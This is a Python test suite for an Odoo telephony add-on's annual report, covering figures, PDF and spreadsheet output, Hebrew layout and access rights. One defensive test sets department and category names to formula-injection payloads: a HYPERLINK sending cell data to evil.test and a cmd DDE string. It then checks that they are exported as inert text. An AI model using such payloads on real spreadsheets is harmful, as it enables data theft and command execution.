import io
from datetime import datetime

import openpyxl
from freezegun import freeze_time
from lxml import etree

from odoo import Command
from odoo.exceptions import AccessError

from odoo.addons.council_telephony.tests.common import TelephonyMoneyCase

from .common import HEADER, UsageImportCase


class TestAnnualReport(UsageImportCase, TelephonyMoneyCase):
    """C19, 4.2.5: the year's figures, the year before beside them."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.calendar._council_load_holidays(2025)
        # What the database held before (demo data): the test counts on top.
        cls.before = cls.env["telephony.annual.figures"]._figures(2026)

        def ticket(category, when, **vals):
            with freeze_time(when):
                return cls._ticket(category, received_at=when, **vals)

        # 2026: two device faults (one call in time, one late), a line repair
        # with no call yet, an internal fault; 2025: one device fault.
        in_time = ticket(cls.cat_device, datetime(2026, 3, 1, 7, 0))
        late = ticket(cls.cat_device, datetime(2026, 3, 2, 7, 0))
        ticket(cls.cat_line_repair, datetime(2026, 5, 3, 7, 0))
        ticket(cls.cat_other, datetime(2026, 5, 4, 7, 0))
        ticket(cls.cat_device, datetime(2025, 6, 1, 7, 0))
        calls = cls.env["telephony.vendor.call"]
        for record, opened, resolved in (
            (in_time, datetime(2026, 3, 1, 8, 0), datetime(2026, 3, 1, 12, 0)),
            (late, datetime(2026, 3, 3, 7, 0), datetime(2026, 3, 3, 15, 0)),
        ):
            call = calls.create(
                {
                    "ticket_id": record.id,
                    "vendor_id": cls.tadiran.id,
                    "channel_type": "phone",
                    "opened_at": opened,
                }
            )
            call.write({"state": "resolved", "resolved_at": resolved})
        cls.env["telephony.outage"].create(
            {
                "cause": "PBX",
                "start": datetime(2026, 2, 10, 8),
                "end": datetime(2026, 2, 10, 16),
            }
        )
        cls._import(
            HEADER
            + "2026-01,4101,Education,100,300,50\n"
            + "2026-02,4101,Education,60,100,40\n"
            + "2025-01,4101,Education,80,200,45\n"
        )
        # Money: a 10,000 budget for 2026 (TelephonyMoneyCase); 3,000 approved
        # and 1,200 of it paid, 500 entered but not approved.
        bill = cls._bill(3000)
        cls._approve(bill)
        bill.with_user(cls.treasury).action_post()
        cls.env["account.payment.register"].with_user(cls.treasury).with_context(
            active_model="account.move", active_ids=bill.ids
        ).create({"amount": 1200, "payment_date": "2026-04-01"})._create_payments()
        cls._bill(500)
        # A closed review of the first quarter; a held session on the holder's
        # device model, which he attended.
        cls.review = cls.env["telephony.compliance.review"].create(
            {
                "contract_id": cls.contract.id,
                "date_start": "2026-01-01",
                "date_end": "2026-03-31",
            }
        )
        with freeze_time("2026-04-02"):
            cls.review.action_done()
        session = cls.env["telephony.training.session"].create(
            {
                "name": "T207M basics",
                "device_model_id": cls.device_model.id,
                "date": "2026-02-01",
                "attendance_ids": [
                    Command.create({"employee_id": cls.holder.id, "state": "attended"})
                ],
            }
        )
        session.action_done()
        cls.report = cls.env["telephony.annual.report"].create({"year": 2026})

    def _html(self, report=None, lang=None):
        """The annual report's page, as the PDF is made of it."""
        reports = self.env["ir.actions.report"]
        if lang:
            reports = reports.with_context(lang=lang)
        return reports._render_qweb_html(
            "council_telephony_reports.action_report_annual",
            (report or self.report).ids,
        )[0].decode()

    def _book(self, report=None, lang=None):
        """The annual report's spreadsheet, opened."""
        reports = self.env["ir.actions.report"]
        if lang:
            reports = reports.with_context(lang=lang)
        content, _kind = reports._render(
            "council_telephony_reports.action_report_annual_xlsx",
            (report or self.report).ids,
        )
        return openpyxl.load_workbook(io.BytesIO(content))

    def test_figures_against_a_known_dataset(self):
        figures = self.env["telephony.annual.figures"]._figures(2026)
        this, last = figures["this"], figures["last"]
        before, before_last = self.before["this"], self.before["last"]

        def added(key, *path):
            now, then = this[key], before[key]
            for step in path:
                now, then = now.get(step, 0), then.get(step, 0)
            return now - then

        self.assertEqual(added("tickets"), 4)
        self.assertEqual(last["tickets"] - before_last["tickets"], 1)
        self.assertEqual(added("by_month", 3), 2)
        self.assertEqual(added("by_month", 5), 2)
        self.assertEqual(added("by_vendor", self.tadiran.name), 2)
        self.assertEqual(added("by_vendor", self.bezeq.name), 1)
        # 4.3.3: every fault past its deadline counts. Before 18.0.1.3 this
        # test asserted 1 in time of 2 "met", leaving out the line repair
        # never called and the internal fault never resolved.
        self.assertEqual(added("in_time"), 1)
        self.assertEqual(added("late"), 1)
        self.assertEqual(added("overdue"), 2)
        self.assertEqual(added("judged"), 4)
        self.assertEqual(
            this["compliance"], round(100.0 * this["in_time"] / this["judged"], 1)
        )
        self.assertEqual(this["usage_total"], (160, 400.0, 90.0))
        self.assertEqual(last["usage_total"], (80, 200.0, 45.0))
        self.assertEqual(
            this["usage"][self.department.display_name], (160, 400.0, 90.0)
        )
        self.assertAlmostEqual(this["availability"], round(100 * (1 - 8 / 8760), 3))
        self.assertEqual(last["availability"], 100.0)
        self.assertEqual(
            this["availability_target"], self.company.telephony_availability_target
        )
        tadiran = [v for v in this["vendors"] if v["vendor"] == self.tadiran.name][0]
        self.assertEqual(tadiran["calls"], 2)
        self.assertEqual(tadiran["resolved"], 2)
        # Working hours from opening to the repair (the response, as nothing
        # came between): 4 (Sunday 10:00-14:00) and 7 (Tuesday 09:00 to
        # closing; repaired at 17:00), as compliance reviews measure them.
        for key in ("response", "repair"):
            self.assertAlmostEqual(tadiran[f"{key}_median"], 5.5)
            self.assertAlmostEqual(tadiran[f"{key}_p90"], 4 + 0.9 * 3)
        # The PBX outage is no vendor's: Tadiran's availability is whole.
        self.assertEqual(tadiran["availability"], 100.0)
        spent = this["spend"][self.tadiran.display_name]
        spent_before = before["spend"].get(self.tadiran.display_name, (0, 0, 0))
        budgets = self.env["telephony.budget"].search(
            [("vendor_id", "=", self.tadiran.id), ("year", "=", 2026)]
        )
        self.assertEqual(spent[0], sum(budgets.mapped("amount")))
        self.assertEqual(
            tuple(now - then for now, then in zip(spent, spent_before, strict=True)),
            (0, 3000, 1200),
        )
        reviewed = this["reviews"][self.tadiran.display_name]
        reviewed_before = before["reviews"].get(self.tadiran.display_name, (0, 0, 0))
        complied = self.review.result == "pass"
        self.assertEqual(
            tuple(
                now - then for now, then in zip(reviewed, reviewed_before, strict=True)
            ),
            (int(complied), int(not complied), self.review.penalty_total),
        )
        training, training_before = this["training"], before["training"]
        self.assertEqual(training["sessions"] - training_before["sessions"], 1)
        self.assertEqual(training["trained"] - training_before["trained"], 1)
        self.assertEqual(training["untrained"] - training_before["untrained"], -1)
        self.assertEqual(
            last["training"]["sessions"], before_last["training"]["sessions"]
        )

    def test_a_fault_never_called_counts_against_compliance(self):
        """4.3.3: a fault whose deadline passed with no vendor call used to be
        left out, and the year stayed at 100 %; it counts, as not met."""
        figures = self.env["telephony.annual.figures"]
        before = figures._figures(2026)["this"]
        with freeze_time(datetime(2026, 6, 7, 6, 0)):
            self._ticket(self.cat_line_repair, received_at=datetime(2026, 6, 7, 6, 0))
        after = figures._figures(2026)["this"]
        self.assertEqual(after["judged"], before["judged"] + 1)
        self.assertEqual(after["overdue"], before["overdue"] + 1)
        self.assertEqual(after["in_time"], before["in_time"])
        self.assertLess(after["compliance"], before["compliance"])

    def test_pdf_in_hebrew_right_to_left(self):
        self._enable_hebrew()
        html = self._html(lang="he_IL")
        self.assertIn('dir="rtl"', html)
        self.assertIn("דוח טלפוניה שנתי", html)
        self.assertIn("תדיראן", html)
        self.assertIn("03/2026", html)
        compliance = self.env["telephony.annual.figures"]._figures(2026)["this"][
            "compliance"
        ]
        self.assertIn(f"{compliance}%", html)

    def test_spreadsheet_in_hebrew_right_to_left(self):
        self._enable_hebrew()
        book = self._book(lang="he_IL")
        self.assertGreater(len(book.worksheets), 5)
        for sheet in book.worksheets:
            self.assertTrue(sheet.sheet_view.rightToLeft, sheet.title)

    def test_spreadsheet(self):
        content, kind = self.env["ir.actions.report"]._render(
            "council_telephony_reports.action_report_annual_xlsx", self.report.ids
        )
        self.assertEqual(kind, "xlsx")
        book = openpyxl.load_workbook(io.BytesIO(content))
        summary = book.worksheets[0]
        rows = {
            row[0].value: (row[1].value, row[2].value)
            for row in summary.iter_rows(min_row=2)
        }
        figures = self.env["telephony.annual.figures"]._figures(2026)
        self.assertEqual(
            rows["Phone faults"],
            (figures["this"]["tickets"], figures["last"]["tickets"]),
        )
        self.assertEqual(rows["Cost"], (90, 45))
        self.assertIn("Usage by department", book.sheetnames)
        training = {
            row[0].value: row[1].value for row in book["Training"].iter_rows(min_row=2)
        }
        self.assertEqual(
            training["Sessions held"], figures["this"]["training"]["sessions"]
        )
        spend = {
            row[0].value: row[1].value
            for row in book["Budget and payments"].iter_rows(min_row=2)
        }
        self.assertEqual(
            spend[self.tadiran.display_name],
            figures["this"]["spend"][self.tadiran.display_name][0],
        )

    def test_spreadsheet_runs_no_name_as_a_formula(self):
        # C20: an HR officer renames a department, the IT manager a fault
        # kind, to something a spreadsheet program would run.
        link = '=HYPERLINK("https://evil.test/?"&B2,"Open")'
        departments = self.env["telephony.usage"].search([]).department_id
        departments.write({"name": "+cmd|' /C calc'!A0"})
        self.cat_device.name = link
        book = self._book()
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(cell.data_type, "f", cell.coordinate)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        self.assertIn(f"'{link}", texts)
        self.assertIn("'+cmd|' /C calc'!A0", texts)
        # Figures stay numbers.
        summary = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows()}
        self.assertIsInstance(summary["Phone faults"], int)

    def test_who_gets_the_annual_report(self):
        self.env["telephony.annual.report"].with_user(self.head).create({"year": 2026})
        for user in (self.agent, self.employee, self.treasury):
            with self.assertRaises(AccessError, msg=user.login):
                self.env["telephony.annual.report"].with_user(user).create(
                    {"year": 2026}
                )

    def test_every_section_beside_the_year_before(self):
        """Issue 16: vendor performance and savings have the year before too."""
        figures = self.env["telephony.annual.figures"]
        last_year = self.env["helpdesk.ticket"].search(
            [("received_at", "=", datetime(2025, 6, 1, 7, 0))]
        )
        self.env["telephony.vendor.call"].create(
            {
                "ticket_id": last_year.id,
                "vendor_id": self.tadiran.id,
                "channel_type": "phone",
                "opened_at": datetime(2025, 6, 1, 8, 0),
            }
        )
        before = figures._figures(2026)
        # A register entry in none of the usage files is idle at the end of
        # either year.
        self.env["telephony.extension"].create({"number": "4177"})
        after = figures._figures(2026)
        for year in ("this", "last"):
            self.assertEqual(after[year]["idle_count"], before[year]["idle_count"] + 1)
        self.assertEqual(
            [
                v["calls"]
                for v in after["last"]["vendors"]
                if v["vendor"] == self.tadiran.name
            ],
            [1],
        )
        book = self._book()
        summary = {
            row[0].value: row[2].value
            for row in book.worksheets[0].iter_rows(min_row=2)
        }
        self.assertEqual(
            summary["Idle extensions and lines"], after["last"]["idle_count"]
        )
        rows = {
            (row[0].value, row[1].value): row[2].value
            for row in book["Vendors"].iter_rows(min_row=2)
        }
        self.assertEqual(rows[self.tadiran.name, 2025], 1)
        self.assertIn((self.tadiran.name, 2026), rows)
        html = self._html()
        self.assertIn("o_telephony_annual_savings", html)
        self.assertIn("at the end of the year", html)

    def test_a_year_the_system_holds_nothing_for_reads_not_recorded(self):
        """A year before the system's first record of a kind of figure reads
        "Not recorded", in the PDF and the spreadsheet, not 0 (the council
        kept that year elsewhere); a later year with nothing is a true 0."""
        figures = self.env["telephony.annual.figures"]
        kinds = {"faults", "usage", "spend", "reviews", "training"}
        before = figures._figures(2001)["last"]
        self.assertEqual({k for k, held in before["recorded"].items() if held}, set())
        quiet = figures._figures(2031)["last"]
        self.assertEqual({k for k, held in quiet["recorded"].items() if held}, kinds)
        self.assertEqual((quiet["tickets"], quiet["usage_total"][0]), (0, 0))
        self._enable_hebrew()
        reports = self.env["telephony.annual.report"].create(
            [{"year": 2001}, {"year": 2031}]
        )
        for report, marked in zip(reports, (True, False), strict=True):
            html = self._html(report, lang="he_IL")
            summary = html[html.index("o_telephony_annual_summary") :]
            faults = summary[: summary.index("</tr>", summary.index("תקלות טלפון"))]
            self.assertEqual(faults.count("לא נרשם"), 2 if marked else 0, faults)
            self.assertEqual("לא נרשם" in html, marked)
            book = self._book(report)
            rows = {
                row[0].value: (row[1].value, row[2].value)
                for row in book.worksheets[0].iter_rows(min_row=2)
            }
            self.assertEqual(
                rows["Phone faults"], ("Not recorded",) * 2 if marked else (0, 0)
            )
            self.assertEqual(rows["Cost"], ("Not recorded",) * 2 if marked else (0, 0))

    def test_usage_counts_phone_calls_not_requests_in_hebrew(self):
        """The usage's calls are phone calls (שיחות) wherever they are shown;
        "פניות" (requests) stays the weekly report's word for its faults."""
        self._enable_hebrew()
        hebrew = self.env(context={"lang": "he_IL"})
        usage = hebrew["telephony.usage"].with_user(self.manager)
        self.assertEqual(usage.fields_get(["calls"])["calls"]["string"], "מספר השיחות")
        listed = etree.fromstring(
            usage.get_views([(False, "list")])["views"]["list"]["arch"]
        )
        (column,) = listed.xpath("//field[@name='calls']")
        self.assertEqual(column.get("string"), "שיחות")
        weekly = hebrew["telephony.weekly.report"].fields_get(["ticket_ids"])
        self.assertEqual(weekly["ticket_ids"]["string"], "פניות")
        html = self._html(lang="he_IL")
        section = html[html.index("שימוש ועלות לפי מחלקה") :]
        header = section[: section.index("</thead>")]
        self.assertIn("<th>שיחות</th>", header)
        self.assertNotIn("פניות", header)
        book = self._book(lang="he_IL")
        header = [cell.value for cell in book["שימוש לפי מחלקה"][1]]
        self.assertEqual(header[1], "שיחות")
        summary = [row[0].value for row in book["סיכום"].iter_rows(min_row=2)]
        self.assertIn("שיחות", summary)
        self.assertNotIn("פניות", summary)
